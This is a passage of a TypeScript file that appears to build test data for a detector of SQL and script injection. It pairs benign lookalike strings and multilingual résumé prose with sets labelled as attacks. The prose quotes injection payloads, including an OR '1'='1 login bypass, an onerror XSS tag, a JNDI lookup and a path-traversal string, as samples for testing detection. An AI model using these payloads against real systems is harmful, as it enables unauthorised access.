  localhost:8080
  http://localhost
  http://127.0.0.1:8000
  gopher protocol
  nosql $ne
  mongodb $where
  {"$gt": ""}
  __proto__
  prototype pollution
  constructor.prototype
  crlf injection
  %0d%0a
  null byte %00
  format string %n
  buffer overflow
  deserialization
  rce
  lfi
  rfi
  idor
  csrf
  jwt none
  burp suite
  nmap -sV
  nikto
  metasploit
  hydra
  hashcat
  john the ripper
  owasp top 10
  cve-2021-44228
  regex ^(a+)+$
  regex .*
  [a-z]+
  (?<=x)
  \\d{3}
  \\u0041
  \\x41
  U+202E
  c'est-à-dire
  chef d'équipe
  ingénieur d'études
  aide-soignante ou infirmier(e)
  infirmier(ère) d.e.
  l'hôpital
  employé(e) de l'état
  responsable qualité/sécurité
  vendeur/se
  Krankenpfleger/-in
  Kaufmann (m/w/d)
  Bürokauffrau & Assistenz
  Erzieher*in
  Köche:innen
  Lagerist oder Fahrer
  SAP S/4HANA
  enfermera o auxiliar
  programador/a
  operaio o magazziniere
  addetto all'ufficio
  responsabile dell'area
  zorg of welzijn
  pielęgniarka lub opiekun
  медсестра или сиделка
  看護師 or 介護士
  护士 AND 夜班
  간호사 or 조무사
  ممرضة أو طبيب
  νοσηλευτής ή γιατρός
  hemşire ve ebe
  sjuksköterska eller undersköterska
  sykepleier (natt)
  sairaanhoitaja tai lähihoitaja
  ápoló vagy orvos
  zdravotní sestra nebo ošetřovatel
  y tá hoặc bác sĩ
  o'reilly
  o'reilly media or manning
  macy's or bloomingdale's
  mcdonald's and wendy's
  kellogg's 'special k'
  lay's -- pepsico
  at&t or verizon
  p&g and unilever
  h&m; zara
  c&a, k&m
  10 or 20 km
  5 or more years
  2 and 3 bedroom
  1 or 2 jobs
  3 or 4 and 5
  100 or more employees
  50 and above
  18 or older
  7 or 8 hours
  1 and only
  2 or not 2
  1 or none
  0 or 1
  1 or null
  1 or all
  4 and up
  24 or 25 may
  2023 or 2024
  2023 and later
  between 5 and 10
  5 between 10
  10 in 1
  3 in a row
  2 is company
  1 like no other
  3 is not enough
  1 union 2 workers
  union 1 or 2
  8 except 9
  select 2 of 5
  top 10
  limit 10
  offset 20
  10 limit
  case 3
  case 1 or 2
  when 18
  2+2
  2*3
  10/2
  1-2
  1 - 2 - 3
  (1)
  (1 or 2)
  1) first 2) second
  a) b) c)
  a); b)
  'a' or 'b'
  "a" or "b"
  'a','b'
  ('a')
  it's or its
  whose or who's
  rock 'n' roll or jazz
  '90s or '80s
  7' x 5'
  6' or taller
  5'11"
  12" or 13"
  3'-4'
  'til 5 or 6
  o'clock
  9 o'clock or 10 o'clock
  y'all
  ma'am or sir
  d'oh!
  jack o'lantern; halloween
  tic-tac-toe; o's and x's
  mind your p's and q's
  dos and don'ts
  do's & don'ts
  yes; no; maybe
  a; b; c
  true; false
  true or false
  false or true
  not true
  null; void
  begin; end
  commit; push
  drop; shop
  start; stop
  select; copy; paste
  update; restart
  set; get
  show; tell
  call; mail
  listen; learn
  notify; me
  lock; load
  grant; revoke`);
const PROSE = lines(`
  I've led a team of 5 or 6 engineers; we didn't miss a release in 3 years -- not one.
  Wrote "SELECT * FROM users WHERE id = ?" more often than I'd like, and taught juniors why the ? matters.
  Found and reported a stored XSS (<img src=x onerror=alert(1)>) in the ticketing system; fixed within 24h.
  Hardened the login form: ' OR '1'='1 no longer gets anybody in.
  Migrated 300+ stored procedures; DROP TABLE legacy_* at the end of it was a good day.
  My hobby project parses <script> tags & CSS @media rules.
  Ran "rm -rf node_modules && npm ci" in CI for years; replaced it with a cache.
  Responsible for O'Hare's baggage systems (2015-'19), and for its on-call rota.
  Trained staff in A&E; "calm under pressure" – Dr. O'Neill.
  J'ai géré l'équipe d'infirmières; c'était l'un des services d'urgence les plus chargés.
  L'objectif : réduire les coûts d'exploitation de 15 % -- atteint.
  Ich war für "Einkauf & Logistik" zuständig; 2019–2022 (Elternzeit: 2020).
  Bei Müller's Mühle -- Familienbetrieb -- Ausbildung zur Kauffrau.
  Sono stato responsabile dell'area vendite; l'obiettivo d'anno fu superato del 12%.
  Trabajé en atención al cliente; "siempre puntual" – mi jefa.
  Pracowałam jako pielęgniarka (OIOM); dyżury nocne i świąteczne.
  Работала медсестрой; ночные смены, "скорая", обучение новичков.
  Εργάστηκα ως νοσηλεύτρια· νυχτερινές βάρδιες & εκπαίδευση.
  夜勤の看護師として5年間勤務（ICU）；新人教育も担当。
  在急诊科工作三年；熟悉SQL（SELECT、JOIN）和Excel。
  عملت ممرضة في الطوارئ؛ نوبات ليلية، وتدريب الموظفين الجدد.
  עבדתי כאחות בחדר מיון; משמרות לילה והדרכת עובדים חדשים.
  ฉันเคยทำงานเป็นพยาบาล; กะกลางคืน (ICU)
  Làm y tá khoa cấp cứu; trực đêm & đào tạo người mới.
  Acil serviste hemşire olarak çalıştım; gece vardiyası, "sakin ve dikkatli".
  Jag har jobbat som sjuksköterska; natt och helg -- alltid i tid.
  Reduced p95 from 800ms to < 200ms; error rate 0.01% (was > 1%).
  Tuned queries: EXPLAIN ANALYZE, partial indexes, and WHERE deleted_at IS NULL everywhere.
  Built ETL (Airflow -> S3 -> Redshift); UNION ALL of 40 tables, GROUP BY day.
  Taught a course "SQL injection for developers": UNION SELECT, blind, time-based (pg_sleep), and how to stop them all.
  CTF: solved web/500 with {{7*7}} -> RCE; pwn/300 with %n.
  Wrote WAF rules against ../../etc/passwd, \${jndi:ldap://...} and <svg onload=...>.
  Skills: Burp, sqlmap, nmap -sV, Metasploit; OSCP.
  Tools: bash, awk '{print $1}', sed 's/a/b/', grep -r, xargs.
  Automated backups: tar czf - /srv | ssh backup 'cat > srv.tgz'.
  Wrote a shell script (if [ -f x ]; then cat x; fi) that saved 2 h/day.
  Introduced CSP: default-src 'none'; script-src 'self'; no more inline onclick= handlers.
  Replaced innerHTML = x by textContent; removed javascript: links.
  Kept the books (debit = credit, always); VAT; year-end.
  Managed 3 stores; turnover + 12 %; shrinkage < 1%; staff = 25.
  Class teacher, years 5 and 6; maths & science; SEN; "outstanding" (Ofsted '22).
  Drove HGV (C+E) or vans, 2 or 3 nights a week; 0 accidents; ADR.
  Chef at L'Étoile d'Or; 2 rosettes; menu: pain d'épices, crème brûlée…
  Sold houses & flats in St John's Wood; 1 or 2 a week.
  I am fluent in C, C++ and C#; I don't do PHP (anymore).
  Please don't call before 9 or after 5; e-mail's fine.
  References: Dr. D'Arcy (St. Mary's), Ms. O'Toole; phone on request.
  "To be, or not to be" -- acted as Hamlet in '09.
  I know HTML (<header>, <main>, <footer>), ARIA & CSS.
  Wrote docs: "How to use <template> and <slot>".
  Set up Kubernetes; kubectl exec -it pod -- /bin/sh was my friend.
  Team of 8 or 9; budget = 1.2M; P&L; 4 countries.
  I prefer remote, or hybrid (2 and 3 days); not on-site.
  Availability: 1 or 2 months' notice; from 01/10.
  Patent no. US 9,999,999 B2; co-inventor w/ J. O'Shea.
  Published: "O(n log n) or better?" (2021); "1 = 0: a proof" (satire).
  Thesis: "Union, intersection & difference of spatial sets".
  Volunteer: Table Tennis club; Drop-in centre; Union rep.
  Set-up, sound check; 'Front of house' & lights; 100+ shows.
  Alert: I'm allergic to open-plan offices ;-)
  I value honesty; I select, train & keep good people; where others see problems, I see order.
  Exec. assistant to the CEO; from 2018, where I set up, updated & deleted calendars.
  As a union steward I insert myself into disputes, or, if not asked, don't.
  I like data; I like people; having both is the best of either world.
  The job: create, alter, drop -- repeat. I was a tailor.`);

/** Each as it is, and in one disguise, which it takes by its hash. */
function disguised(seeds: readonly string[], disguises: readonly Disguise[]): string[] {
  const disguise = (seed: string) => disguises[hashOf(`disguise:${seed}`) % disguises.length] ?? String;
  return [...new Set(seeds.flatMap((seed) => [seed, disguise(seed)(seed)]))];
}

function decoded(text: string): string {
  return /%[0-9A-F]{2}/.test(text) && !text.includes(' ') ? decodeURIComponent(text) : text;
}

function names(): string[] {
  return GIVEN.flatMap((given, n) => FAMILY.filter((_, m) => (n + m) % 9 === 0).map((family) => `${given} ${family}`));
}

export function secondSet(part: Part): SecondSet[] {
  const mine = (values: string[]) =>
    values.filter((value) => (hashOf(`second:${value}`) % 2 === 0) === (part === 'open'));
  return [
    {
      what: 'SQL that changes a statement',
      isAttack: true,
      place: 'parameter',
      values: mine(disguised(SQL, SQL_DISGUISES)).filter((value) => changesAStatement(decoded(value))),
    },
    { what: 'script', isAttack: true, place: 'parameter', values: mine(disguised(SCRIPT, SCRIPT_DISGUISES)) },
    { what: 'names', isAttack: false, place: 'field', values: mine(names()) },
    { what: 'form fields', isAttack: false, place: 'field', values: mine(FIELDS) },
    {
      what: 'parameters',
      isAttack: false,
      place: 'parameter',
      values: mine([...names().slice(0, 200), ...PARAMETERS]),
    },
    { what: 'prose of developers and others', isAttack: false, place: 'text', values: mine(PROSE) },
  ];
}
